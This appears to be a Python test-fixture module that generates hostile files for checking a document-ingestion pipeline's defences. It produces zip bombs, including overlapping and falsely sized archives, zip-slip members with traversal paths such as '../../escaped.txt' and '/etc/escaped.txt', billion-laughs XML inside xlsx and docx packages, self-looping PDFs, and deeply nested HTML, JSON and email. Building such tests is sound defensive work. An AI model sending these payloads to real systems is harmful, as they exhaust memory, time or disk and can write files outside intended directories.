"""Bombs, made on the spot: small files that would take all memory, all time or all disk of whoever unpacks them."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping

GIGABYTE = 1 << 30
NAMES = (
    "../../escaped.txt",
    "/etc/escaped.txt",
    "..\\..\\escaped.txt",
    "C:\\escaped.txt",
    "a\x00b.txt",
    "~/escaped.txt",
)


def bombs(names: Iterable[str] = ()) -> Iterator[tuple[str, bytes]]:
    """Name and content of each, or of these."""
    for name in names or BOMBS:
        yield name, BOMBS[name]()


def zipped(files: dict[str, bytes]) -> bytes:
    """A ZIP file of these members."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return stream.getvalue()


def _nested(depth: int) -> bytes:
    inner = b"Nine people were killed in Orrin."
    for at in range(depth):
        inner = zipped({f"{at}.zip" if at else "report.txt": inner})
    return inner


def _overlapping(count: int) -> bytes:
    """Members that all lie over one another, so that each unpacks the same bytes."""
    archive = bytearray(zipped({"a.txt": bytes(20_000_000)}))
    at = archive.rindex(b"PK\x01\x02")
    end = archive.rindex(b"PK\x05\x06")
    entry = bytes(archive[at:end])
    directory = entry * count
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), at, 0)
    return bytes(archive[:at]) + directory + tail


def _lying() -> bytes:
    """A member that says it is ten bytes long and is 100 million."""
    archive = bytearray(zipped({"a.txt": bytes(100_000_000)}))
    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = archive.index(mark) + place
        archive[at : at + 4] = struct.pack("<L", 10)
    return bytes(archive)


def _sheet(cells: str) -> bytes:
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kinds = "http://schemas.openxmlformats.org/package/2006"
    related = f'<Relationship Id="r1" Type="{rel}/%s" Target="%s"/>'
    one = f'<Relationships xmlns="{kinds}/relationships">{related}</Relationships>'
    listed = '<sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets>'
    files = {
        "[Content_Types].xml": f'<Types xmlns="{kinds}/content-types"/>',
        "_rels/.rels": one % ("officeDocument", "xl/workbook.xml"),
        "xl/workbook.xml": f'<workbook {main} xmlns:r="{rel}">{listed}</workbook>',
        "xl/_rels/workbook.xml.rels": one % ("worksheet", "worksheets/s1.xml"),
        "xl/worksheets/s1.xml": f'<worksheet {main}><sheetData><row r="1">{cells}</row></sheetData></worksheet>',
    }
    return zipped({name: content.encode() for name, content in files.items()})


def _laughing(path: str) -> bytes:
    entities = "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 12))
    laughing = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a0 "ha">{entities}]><d>&a11;</d>'
    return zipped({"[Content_Types].xml": b"<Types/>", path: laughing.encode()})


def _repeated() -> bytes:
    table = (
        '<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="16000">'
    )
    names = 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:x"'
    content = (
        f"<d {names}><table:table>{table}<text:p>x</text:p></table:table-cell></table:table-row></table:table></d>"
    )
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content.encode()})


def _picture(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(50_000_000))) + chunk(b"IEND", b"")


def _pdf(stream: bytes) -> bytes:
    font = "<< /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    objects = (
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources {font} >>",
    )
    head = "%PDF-1.7\n" + "".join(f"{at} 0 obj\n{each}\nendobj\n" for at, each in enumerate(objects, start=1))
    head += f"4 0 obj\n<< /Length {len(stream)} /Filter /FlateDecode >>\nstream\n"
    return head.encode() + stream + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def _looping() -> bytes:
    """A tree of pages that holds itself, and says it holds a billion."""
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000000 >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


BOMBS: Mapping[str, Callable[[], bytes]] = {
    "zeros.zip": lambda: zipped({"zeros.txt": bytes(300_000_000)}),
    "slip.zip": lambda: zipped(dict.fromkeys(NAMES, b"Nine people were killed in Orrin.")),
    "nested.zip": lambda: _nested(12),
    "many.zip": lambda: zipped({f"{at}.txt": b"" for at in range(120_000)}),
    "forty-two.zip": lambda: zipped({f"{at}.zip": zipped({"z.txt": bytes(40_000_000)}) for at in range(60)}),
    "overlap.zip": lambda: _overlapping(2000),
    "lying.zip": _lying,
    "zeros.txt.gz": lambda: gzip.compress(bytes(GIGABYTE // 2)),
    "wide.xlsx": lambda: _sheet('<c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c>'),
    "laughs.xlsx": lambda: _laughing("xl/worksheets/s1.xml"),
    "laughs.docx": lambda: _laughing("word/document.xml"),
    "repeated.ods": _repeated,
    "deep.html": lambda: b"<div>" * 1_000_000,
    "attributes.html": lambda: b"<p " + b" ".join(b"a%d=1" % at for at in range(300_000)) + b">x",
    "deep.json": lambda: b"[" * 5_000_000,
    "deep.eml": lambda: b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (at, at) for at in range(5000)
    ),
    "headers.eml": lambda: b"X: y\n" * 2_000_000 + b"\nNine dead.",
    "huge.png": lambda: _picture(60_000, 60_000),
    "stream.pdf": lambda: _pdf(zlib.compress(bytes(GIGABYTE // 4), 9)),
    "operators.pdf": lambda: _pdf(zlib.compress(b"BT /F 9 Tf (x) Tj ET q Q " * 4_000_000, 9)),
    "pages.pdf": _looping,
    "zeros.warc.gz": lambda: gzip.compress(
        b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 400000000\r\n\r\n" + bytes(400_000_000)
    ),
    "quotes.csv": lambda: b"text\n" + b'"' * 3_000_000,
    "line.jsonl": lambda: b'{"text": "' + b"x" * 60_000_000,
}
